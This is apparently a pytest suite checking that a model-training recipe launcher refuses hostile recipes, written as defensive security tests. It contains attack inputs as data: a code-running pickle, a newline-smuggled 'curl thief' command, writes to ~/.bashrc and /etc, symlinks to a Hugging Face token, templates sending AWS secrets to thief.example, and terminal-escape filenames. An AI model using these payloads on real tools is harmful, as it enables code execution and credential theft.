"""Every attack that once worked, each by the commands a person gives; the fixture looks for what it would have left."""

from __future__ import annotations

import json
import os
import pickle
import time
from pathlib import Path

import pytest


def codes(done):
    return {f["code"] for f in json.loads(done.stdout)["findings"] if f["severity"] == "error"}


def refused(stranger, path, code):
    """All commands that would launch say no, with the same code."""
    plan, shown, dry, launched, _ = stranger.every(path)
    assert code in codes(plan)
    assert code in shown.stdout
    assert [plan.exit_code == 0, dry.exit_code == 0, launched.exit_code == 0] == [False] * 3
    assert not (stranger.folder / "workspace" / "runs").exists()


class Bomb:
    def __init__(self, path: Path):
        self.path = path

    def __reduce__(self):
        return os.mkdir, (str(self.path),)


CODE = {
    "optimizer": "  optimizer_type: unittest.mock.Mock",
    "scheduler": "  lr_scheduler_type: timeit.timeit\n  lr_scheduler_args: {setup: \"'import os'\"}",
    "network": "  network_module: antigravity",
    "python": "launch: {python: ./python}",
    "python of a base": "extends: ./base.yaml",
    "package": "launch: {packages: [evil==1.0]}",
    "package by its address": 'launch: {packages: ["prodigyopt @ https://example.org/x.whl"]}',
    "package of any version": "launch: {packages: [prodigyopt]}",
    "file of deepspeed": "launch: {accelerate: {use_deepspeed: true, deepspeed_config_file: /tmp/x.json}}",
    "folder of logs": "launch: {accelerate: {log_dir: /etc}}",
    "other machine": "launch: {accelerate: {main_process_ip: 10.0.0.1}}",
}


@pytest.mark.parametrize("attack", CODE)
def test_1_and_2_a_recipe_runs_no_code(stranger, attack):
    stranger.script("python")
    (stranger.folder / "base.yaml").write_text("launch: {python: ./python}\n", encoding="utf-8")
    refused(stranger, stranger.recipe(CODE[attack]), "recipe.trust")


WRITES = {
    "log file": "  console_log_file: ~/.bashrc",
    "log prefix": "  log_with: tensorboard\n  log_prefix: ../../../../home/",
    "tokenizers": "  tokenizer_cache_dir: /etc/tokenizers",
    "offload": "  deepspeed: true\n  offload_param_nvme_path: /etc",
}


@pytest.mark.parametrize("attack", WRITES)
def test_4_a_recipe_writes_nothing_outside_its_workspace(stranger, attack):
    refused(stranger, stranger.recipe(WRITES[attack]), "recipe.trust")


def test_4_no_line_is_smuggled_into_a_log(stranger):
    refused(stranger, stranger.recipe('  optimizer_type: "AdamW\\ncurl thief"'), "args.value")


@pytest.mark.parametrize("name", ["runs", "runs/gift", "runs/gift/.active.guard", "datasets/gift", "cache/huggingface"])
def test_5_links_of_a_downloaded_workspace_lead_nothing_out(stranger, name):
    link = stranger.folder / "workspace" / name
    link.parent.mkdir(parents=True, exist_ok=True)
    target = stranger.home / (".bashrc" if name.endswith(".guard") else "")
    before = sorted(stranger.home.rglob("*"))
    link.symlink_to(target)
    path = stranger.recipe()
    assert "disk.link" in codes(stranger.run("plan", path, "--json"))
    assert stranger.run("launch", path, "--practice").exit_code != 0
    assert [p for p in stranger.home.rglob("*") if p not in before] == []


def test_5_a_workspace_somewhere_else_is_asked_for(stranger):
    path = stranger.recipe()
    path.write_text(path.read_text().replace("./workspace", str(stranger.home / "w")), encoding="utf-8")
    refused(stranger, path, "recipe.trust")
    assert not (stranger.home / "w").exists()


def test_6_links_of_a_dataset_read_no_secret(stranger):
    caption = stranger.folder / "pictures" / "0.txt"
    caption.unlink()
    caption.symlink_to(stranger.home / ".cache" / "huggingface" / "token")
    refused(stranger, stranger.recipe(), "dataset.link")


def test_7_pickles_are_not_loaded(stranger):
    file = stranger.folder / "model.ckpt"
    file.write_bytes(pickle.dumps(Bomb(stranger.canary)))
    refused(stranger, stranger.recipe(model="./model.ckpt"), "model.pickle")
    refused(stranger, stranger.recipe("  network_weights: ./model.ckpt"), "model.pickle")
    done = stranger.run("verify", file)
    assert done.exit_code != 0
    assert "was not opened: a pickle can run code" in done.stdout


def test_7_a_model_folder_brings_no_code(stranger):
    folder = stranger.folder / "model"
    folder.mkdir()
    (folder / "model_index.json").write_text(json.dumps({"_class_name": ["mine", "Pipe"]}), encoding="utf-8")
    (folder / "mine.py").write_text(f"open({str(stranger.canary)!r}, 'w')", encoding="utf-8")
    refused(stranger, stranger.recipe(model="./model"), "model.pickle")


@pytest.mark.parametrize(
    "more",
    [
        'finish: {notify: "https://thief.example/{{ env.GIT_WORD }}"}',
        '  training_comment: "{{ env.GIT_WORD }}"',
        '  training_comment: "{{ env.AWS_SECRET_ACCESS_KEY }}"',
    ],
)
def test_8_values_of_the_environment_are_not_read(stranger, more):
    refused(stranger, stranger.recipe(more), "recipe.variable")


def test_8_and_9_a_run_keeps_no_secret_and_its_files_are_private(stranger):
    done = stranger.run("launch", stranger.recipe(), "--practice")
    assert done.exit_code == 0, done.stderr
    run_dir = next((stranger.folder / "workspace" / "runs" / "gift").glob("0*"))
    assert [(run_dir / name).stat().st_mode & 0o777 for name in ("record.json", "plan.json")] == [0o600] * 2


HIDDEN = {
    "send a message to thief.example": "finish: {notify: 'https://thief.example/x'}",
    "publish the picked epoch with a model card to thief/loot on the Hub, private": "finish: {publish: thief/loot}",
    "terminate the pod": "finish: {stop_pod: terminate}",
    "upload to thief/loot on the Hub, public":
        "  huggingface_repo_id: thief/loot\n  huggingface_repo_visibility: public",
    "send its metrics": "  log_with: wandb",
}  # fmt: skip


@pytest.mark.parametrize("said", HIDDEN)
def test_10_consequences_are_told_before_everything_else(stranger, said):
    path = stranger.recipe(HIDDEN[said])
    shown = stranger.run("plan", path).stdout
    assert shown.startswith("this recipe will also:")
    assert said in shown
    refused(stranger, path, "recipe.trust")


def test_10_a_message_is_sent_nowhere_without_consent(stranger):
    refused(stranger, stranger.recipe(f"finish: {{notify: '{stranger.web.url}'}}"), "recipe.trust")


def test_11_names_cannot_drive_the_terminal(stranger):
    name = "\x1b]0;owned\x07\nready: 0 warning(s)\n\u202egnp.txt"
    (stranger.folder / "pictures" / name).write_text("x", encoding="utf-8")
    path = stranger.recipe('"ke\\ey\\u202e": 1')
    for done in stranger.every(path):
        assert "\x1b" not in done.output
        assert "\u202e" not in done.output
        assert "ready: 0 warning(s)" not in done.output.splitlines()


def test_14_many_unknown_keys_and_chained_filters_end_soon(stranger):
    begun = time.process_time()
    stranger.run("plan", stranger.recipe("".join(f"key_{n}: 1\n" for n in range(45_000))), "--json")
    chain = "| replace('t', 'tttttttttttttttttttttttttttttttt') " * 40
    assert "recipe.variable" in codes(
        stranger.run("plan", stranger.recipe(f'  training_comment: "{{{{ name {chain}}}}}"'), "--json")
    )
    assert time.process_time() - begun < 6


def test_14_special_files_are_not_waited_for(stranger):
    os.mkfifo(stranger.folder / "pictures" / "p.png")
    (stranger.folder / "pictures" / "k.png").symlink_to("/proc/kmsg")
    os.mkfifo(stranger.folder / "lora.safetensors")
    stranger.every(stranger.recipe())
    assert "named pipe" in stranger.run("verify", stranger.folder / "lora.safetensors").stdout


def test_15_no_package_of_a_recipes_choice_is_advised(stranger):
    log = stranger.folder / "train.log"
    log.write_text('Traceback (most recent call last):\n  File "train_network.py", line 1, in <module>\n'
                   "ModuleNotFoundError: No module named 'evilpackage'\n", encoding="utf-8")  # fmt: skip
    said = stranger.run("diagnose", log).stdout
    assert "install evilpackage" not in said
    assert "package that has evilpackage" not in said
